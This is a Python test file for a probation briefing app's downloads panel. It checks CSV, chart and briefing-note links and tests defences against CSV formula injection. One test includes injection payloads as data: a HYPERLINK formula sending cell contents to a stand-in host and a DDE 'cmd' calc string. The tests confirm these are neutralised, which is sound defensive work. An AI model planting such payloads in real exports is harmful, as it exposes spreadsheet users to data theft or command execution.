"""The downloads panel builds CSV, PNG/SVG and briefing-note links for the current scenario."""

from __future__ import annotations

import csv
import io

import altair as alt
import pandas as pd
from probation_briefing.data import source
from probation_briefing.data.params import parameters
from probation_briefing.page import downloads
from probation_briefing.present import export


def bundle() -> export.Bundle:
    df = pd.DataFrame({"area": ["A", "B"], "value": [1.5, 2.5]})
    ch = alt.Chart(df).mark_bar().encode(x="value", y="area").properties(title="Per area")
    return export.Bundle(
        "Test briefing",
        {"Share": "10%"},
        [("Moved", "£45.0m")],
        {"Per area": ch},
        {"Per area results": df},
        parameters("q15").assumptions(source()),
        "<ol><li>src</li></ol>",
    )


def test_links_cover_tables_charts_and_note():
    html = downloads.links(bundle())
    assert 'download="per-area-results.csv"' in html
    assert 'download="per-area.png"' in html and 'download="per-area.svg"' in html
    assert "briefing-note.html" in html and "data:text/html;base64," in html


def test_panel_builds_on_click_and_reports_errors():
    p = downloads.panel(bundle)
    button, out = p.children[1], p.children[2]
    button.click()
    assert "per-area.png" in out.value

    def broken() -> export.Bundle:
        raise ValueError("boom")

    p2 = downloads.panel(broken)
    p2.children[1].click()
    assert "Something went wrong" in p2.children[2].value and "boom" not in p2.children[2].value


def _csv_of(link_html: str) -> str:
    import base64
    import re

    b64 = re.search(r"data:text/csv;base64,([A-Za-z0-9+/=]+)", link_html)
    assert b64, link_html
    return base64.b64decode(b64.group(1)).decode("utf-8")


def test_csv_exports_neutralise_formula_text_but_keep_numbers():
    """OWASP CSV injection: text that a spreadsheet would run as a formula is prefixed with a quote."""
    df = pd.DataFrame(
        {
            "short_name": [
                '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
                "+cmd|' /C calc'!A0",
                "@SUM(1+1)",
                "-2+3",
                "\tx",
                "\rx",
                "Kent",
            ],
            "value": [-5.5, -1, 0, 1, 2, 3, 4],
        }
    )
    text = downloads.links(export.Bundle("T", {}, [], {}, {"Areas": df}, None, ""))
    rows = list(csv.reader(io.StringIO(_csv_of(text), newline="")))[1:]
    firsts = [r[0] for r in rows]
    assert all(not c or c[0] not in "=+-@\t\r" for c in firsts), firsts
    assert firsts[0].startswith("'=HYPERLINK") and firsts[-1] == "Kent"
    assert [r[1] for r in rows] == ["-5.5", "-1.0", "0.0", "1.0", "2.0", "3.0", "4.0"]  # numbers stay numbers


def test_every_csv_link_is_neutralised():
    from probation_briefing.present import html as ui

    assert _csv_of(ui.csv_link(pd.DataFrame({"a": ["=1+1"], "b": [-1]}), "x.csv")).split("\r\n") == ["a,b", "'=1+1,-1", ""]
